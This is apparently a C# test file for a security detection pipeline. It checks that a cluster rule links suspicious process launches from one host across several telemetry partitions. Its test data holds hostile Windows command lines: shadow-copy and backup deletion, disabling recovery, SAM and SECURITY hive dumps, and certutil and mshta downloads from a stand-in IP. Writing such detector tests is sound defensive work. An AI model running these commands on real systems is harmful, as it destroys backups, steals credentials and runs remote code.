using System.Text.Json;
using Changeling.Events;
using Changeling.HostStandIn;
using Changeling.TestSupport;
using static Changeling.TestSupport.Telemetry;

namespace Changeling.Functions.Tests.App;

/// <summary>The timer function of the cluster rules in the real app on Azurite.</summary>
public class ClustersTests(AppFixture app) : IClassFixture<AppFixture>
{
    private static readonly string[] CommandLines =
    [
        "vssadmin.exe delete shadows /all /quiet", @"reg.exe save hklm\sam s.hiv", "certutil.exe -urlcache -split -f http://203.0.113.27/r.txt r.exe",
        "mshta.exe http://203.0.113.27/a.hta", "wbadmin.exe delete catalog -quiet", "wmic.exe shadowcopy delete", @"reg.exe save hklm\security x.hiv", "bcdedit.exe /set {default} recoveryenabled no",
    ];

    [Fact(Timeout = 180_000)]
    public async Task Launches_of_one_host_in_several_partitions_are_found_together_and_handed_over_until_dealt_with()
    {
        var baseline = AzuriteFixture.UniqueName("clusters");
        await using var host = await app.StartAsync(baseline);
        await SendAsync(host);

        var first = await host.InvokeTimerAsync("EvaluateClusters", TestContext.Current.CancellationToken);
        host.Kill();
        var again = await host.InvokeTimerAsync("EvaluateClusters", TestContext.Current.CancellationToken);

        // 503 until the model is loaded again; the function's retry policy brings the call back.
        for (var retry = 0; !again.Succeeded && retry < 60; retry++)
        {
            await Task.Delay(500, TestContext.Current.CancellationToken);
            again = await host.InvokeTimerAsync("EvaluateClusters", TestContext.Current.CancellationToken);
        }

        var then = await host.InvokeTimerAsync("EvaluateClusters", TestContext.Current.CancellationToken);
        var swept = await host.InvokeTimerAsync("SweepBaseline", TestContext.Current.CancellationToken);

        Assert.True(first.Succeeded && again.Succeeded && then.Succeeded && swept.Succeeded, first.Failure + again.Failure + then.Failure + swept.Failure);
        var rules = first.Detections.Select(Rule).Order().ToList();
        Assert.Contains("suspicious-cluster-by-host", rules);
        Assert.Equal(first.Detections.Select(d => d.ToArray()), again.Detections.Select(d => d.ToArray()));
        Assert.Empty(then.Detections);
    }

    /// <summary>Bad launches of host <c>ws-0417</c> in four event partitions, and later ones that close their window.</summary>
    internal static async Task SendAsync(FunctionsHost host)
    {
        foreach (var (i, line) in CommandLines.Index())
        {
            var partition = new EventPartition("telemetry", $"{i % 4}");
            var child = line[..line.IndexOf(' ')];
            var batch = new EventBatch(partition, [Message(i, Record("cmd.exe", child, line, guid: $"{{{i}}}"), Some.Time.AddSeconds(i))]);
            Assert.True((await host.InvokeAsync(batch, TestContext.Current.CancellationToken)).Succeeded);
        }

        for (var i = 0; i < 4; i++)
        {
            var later = Some.Time.AddMinutes(40);
            var batch = new EventBatch(new EventPartition("telemetry", $"{i}"), [Message(10 + i, Record("services.exe", "svchost.exe", time: later), later)]);
            Assert.True((await host.InvokeAsync(batch, TestContext.Current.CancellationToken)).Succeeded);
        }
    }

    /// <summary>The rule of a detection.</summary>
    internal static string Rule(ReadOnlyMemory<byte> detection)
    {
        using var json = JsonDocument.Parse(detection);
        return json.RootElement.GetProperty("finding_info").GetProperty("analytic").GetProperty("uid").GetString()!;
    }
}
